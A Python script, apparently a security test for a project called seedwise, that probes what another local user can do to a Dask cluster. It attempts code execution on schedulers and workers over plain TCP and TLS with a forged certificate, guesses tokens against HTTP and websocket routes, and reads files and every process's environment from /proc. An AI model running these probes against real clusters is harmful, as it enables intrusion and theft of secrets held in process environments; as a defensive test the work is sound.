"""What another user of a machine can do to a cluster: ``python another_user_probe.py < ORDERS``.

It is a script that needs no seedwise. ORDERS is a JSON object on standard input:

- ``uid``: the user to become after all is imported; only root can.
- ``servers``: list of [host, port] to attack.
- ``routes``: paths to ask of each server that speaks HTTP; if there are none, none is asked.
- ``tokens``: tokens to guess.
- ``files``: paths to read.
- ``protocols``: optional; the ways to connect that are tried, of `SECURITIES`.
- ``ways``: optional; the ways to run code that are tried, of `WAYS`.
- ``timeout_s``: seconds that a try may take.
- ``pem``: optional; a certificate with its key, to be shown in place of a forged one.
- ``marker_dir``: an existing folder that all may write to. Code that it gets to run makes a
  folder there, which then belongs to whoever ran it.

Standard output is a JSON object with what it found:

- ``uid``: who it was.
- ``code``: by server and way in, ``ran`` or why not.
- ``pages``: list of ``server``, ``path``, ``way``, ``status`` (0 is no answer), ``text``.
- ``files``: by path, what was read, or the error's name in <>.
- ``processes``: by pid, command line and, as far as it can be read, environment.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import datetime
import encodings.idna  # noqa: F401  # nothing can be imported later, as another user
import http.client
import json
import os
import ssl
import sys
import tempfile
import warnings
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path

import dask
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from distributed import Client, LocalCluster, Security
from distributed.core import rpc
from distributed.protocol.pickle import dumps

#: Routes that are asked with wrong tokens as well.
TRIED_HARDER = 6
TEXT_LIMIT = 100_000


class Naked(Security):
    """TLS without a certificate of one's own, that trusts everybody."""

    def _args(self, role):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        return {"ssl_context": context, "require_encryption": True, "extra_conn_args": {}}

    get_connection_args = _args


class Certified(Naked):
    """TLS with a certificate, that trusts everybody."""

    pem = ""

    def get_connection_args(self, role):
        args = self._args(role)
        with tempfile.NamedTemporaryFile("w") as file:
            file.write(self.pem)
            file.flush()
            args["ssl_context"].load_cert_chain(file.name)
        return args


def forged_pem() -> str:
    """Return a certificate that is as good as can be, but signed by itself."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "seedwise")])
    now = datetime.datetime.now(datetime.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
        .sign(key, hashes.SHA256())
    )
    pem = key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    ) + certificate.public_bytes(serialization.Encoding.PEM)
    return pem.decode()


SECURITIES = {"tcp": Security, "tls, no certificate": Naked, "tls, certificate": Certified}


# Running code.


def connected(address: str, security: Security) -> Client:
    return Client(address, asynchronous=True, set_as_default=False, security=security)


async def on_scheduler(address: str, security: Security, marker: str) -> None:
    async with connected(address, security) as client:
        await client.run_on_scheduler(os.mkdir, marker)


async def in_a_task(address: str, security: Security, marker: str) -> None:
    async with connected(address, security) as client:
        await client.submit(os.mkdir, marker)


async def as_peer(operation: str, address: str, security: Security, marker: str) -> None:
    server = rpc(address, connection_args=security.get_connection_args("client"))
    try:
        reply = await getattr(server, operation)(function=dumps(os.mkdir), args=dumps((marker,)))
    finally:
        await server.close_rpc()
    if not Path(marker).is_dir():
        raise RuntimeError(f"answered {str(reply)[:200]}")


WAYS = {
    "as a client, on the scheduler": on_scheduler,
    "as a client, in a task": in_a_task,
    "as a peer, run": partial(as_peer, "run"),
    "as a peer, run_function": partial(as_peer, "run_function"),
}


async def attempt(way, protocol: str, server: str, marker: str, timeout_s: float) -> str:
    try:
        attack = way(f"{protocol[:3]}://{server}", SECURITIES[protocol](), marker)
        await asyncio.wait_for(attack, timeout_s)
    except BaseException as error:
        return f"refused: {type(error).__name__}: {str(error)[:200]}"
    return "ran"


async def run_code(orders) -> dict[str, str]:
    tries = {}
    for host, port in orders["servers"]:
        for protocol in orders.get("protocols") or SECURITIES:
            for name in orders.get("ways") or WAYS:
                way = WAYS[name]
                what = f"{host}:{port} {protocol}, {name}"
                marker = f"{orders['marker_dir']}/{what}"
                args = (way, protocol, f"{host}:{port}", marker, orders["timeout_s"])
                tries[what] = attempt(*args)
    # Dask tries to connect again and again for this long.
    with dask.config.set({"distributed.comm.timeouts.connect": orders["timeout_s"]}):
        found = await asyncio.gather(*tries.values())
    return dict(zip(tries, found, strict=True))


# Reading pages.


def ask(server, path: str, headers: dict[str, str], timeout_s: float) -> tuple[int, str]:
    host, port = server
    connection = http.client.HTTPConnection(host, port, timeout=timeout_s)
    with contextlib.closing(connection):
        try:
            connection.request("GET", path, headers=headers)
            reply = connection.getresponse()
            body = b"" if reply.status == 101 else reply.read(TEXT_LIMIT)
        except (OSError, http.client.HTTPException) as error:
            return 0, type(error).__name__
    return reply.status, f"{reply.getheaders()}\n{body.decode(errors='replace')}"


def ways_in(server, path: str, tokens: list[str]):
    yield "no token", path, {}
    for token in tokens:
        yield f"query {token!r}", f"{path}?token={token}", {}
        yield f"header {token!r}", path, {"Authorization": f"token {token}"}
        yield f"cookie {token!r}", path, {"Cookie": f"seedwise-{server[1]}={token}"}


def read_pages(server, orders) -> list[dict[str, object]]:
    pages = []

    def note(way: str, path: str, headers: dict[str, str]) -> int:
        status, text = ask(server, path, headers, orders["timeout_s"])
        name = f"{server[0]}:{server[1]}"
        pages.append({"server": name, "path": path, "way": way, "status": status, "text": text})
        return status

    if not orders["routes"] or not note("no token", "/status", {}):  # it does not speak HTTP
        return pages
    for position, route in enumerate(orders["routes"]):
        tokens = orders["tokens"] if position < TRIED_HARDER else []
        for way, path, headers in ways_in(server, route, tokens):
            note(way, path, headers)
    upgrade = {
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": base64.b64encode(b"0123456789abcdef").decode(),
    }
    for path in ("/eventstream", "/status/ws"):
        for way, asked, headers in ways_in(server, path, orders["tokens"]):
            note(f"websocket, {way}", asked, {**headers, **upgrade})
    return pages


# Looking around.


def text_of(path: str) -> str:
    try:
        return Path(path).read_bytes()[:TEXT_LIMIT].decode(errors="replace")
    except OSError as error:
        return f"<{type(error).__name__}>"


def all_processes() -> dict[str, list[str]]:
    folders = list(Path("/proc").glob("[0-9]*"))
    return {
        folder.name: [text_of(f"{folder}/cmdline"), text_of(f"{folder}/environ")]
        for folder in folders
    }


async def warm_up() -> None:
    """Have all that is imported late be imported."""
    async with (
        LocalCluster(
            n_workers=1, processes=False, asynchronous=True, dashboard_address=":0", protocol="tcp"
        ) as cluster,
        Client(cluster, asynchronous=True, set_as_default=False) as client,
    ):
        await client.submit(sum, (1, 2))
        await client.run_on_scheduler(os.getpid)


def become(uid: int | None) -> None:
    if uid is not None and uid != os.getuid():
        os.setgroups([])
        os.setgid(uid)
        os.setuid(uid)


def main() -> None:
    orders = json.load(sys.stdin)
    warnings.simplefilter("ignore")
    asyncio.run(warm_up())
    become(orders.get("uid"))
    Certified.pem = orders.get("pem") or forged_pem()
    code = asyncio.run(run_code(orders))
    with ThreadPoolExecutor() as pool:
        pages = pool.map(partial(read_pages, orders=orders), orders["servers"])
        found = {
            "uid": os.getuid(),
            "code": code,
            "pages": [page for of_server in pages for page in of_server],
            "files": {path: text_of(path) for path in orders["files"]},
            "processes": all_processes(),
        }
    json.dump(found, sys.stdout)


if __name__ == "__main__":
    main()
